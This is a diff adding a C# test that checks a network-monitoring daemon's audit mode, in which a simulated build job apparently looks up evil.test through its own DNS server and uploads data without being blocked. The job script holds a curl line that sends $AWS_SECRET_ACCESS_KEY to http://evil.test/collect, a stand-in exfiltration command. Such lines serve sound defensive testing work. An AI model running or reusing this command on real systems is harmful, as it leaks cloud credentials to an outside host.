@@ -170,6 +170,31 @@ public sealed class PreventModeTests(NetworkLabFixture fixture)
     }
 
     [Fact]
+    public async Task In_audit_mode_nothing_is_redirected_or_refused_the_job_asks_its_own_server_and_its_upload_arrives()
+    {
+        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(1));
+        var collectedBefore = CollectRequests();
+        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("audit"));
+        using var job = BuildJob.Start(Lab, """
+            dig +tries=1 +time=2 @198.18.0.2 evil.test A | grep -E "^;; SERVER|^evil.test"
+            curl -s -d "token=$AWS_SECRET_ACCESS_KEY" http://evil.test/collect > /dev/null; echo "curl exit $?"
+            """);
+        var result = await job.WaitAsync();
+
+        // The lab's resolver answered (not the forwarder, which would refuse evil.test), and the upload got through.
+        Assert.Contains("SERVER: 198.18.0.2#53", result.StandardOutput);
+        Assert.Contains("198.18.0.66", result.StandardOutput);
+        Assert.Contains("curl exit 0", result.StandardOutput);
+        Assert.True(CollectRequests() > collectedBefore, "the upload did not arrive");
+        await daemon.WaitForAlertAsync(a => Str(a, "job") == job.JobId && Str(a, "action") == "alerted" && Names(a).Contains("evil.test"));
+        Assert.DoesNotContain(daemon.AlertRecords(), a => Str(a, "action") == "prevented");
+        var status = await daemon.CliAsync("status", "--json");
+        var sensors = JsonDocument.Parse(status.StandardOutput).RootElement.GetProperty("sensors");
+        Assert.Equal(0, sensors.GetProperty("dnsForwarderQueries").GetInt64());
+        Assert.Equal(0, sensors.GetProperty("jobsPrevented").GetInt64());
+    }
+
+    [Fact]
     public async Task A_job_that_names_its_own_dns_server_gets_the_hosts_resolver_and_its_server_hears_nothing()
     {
         await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(1));
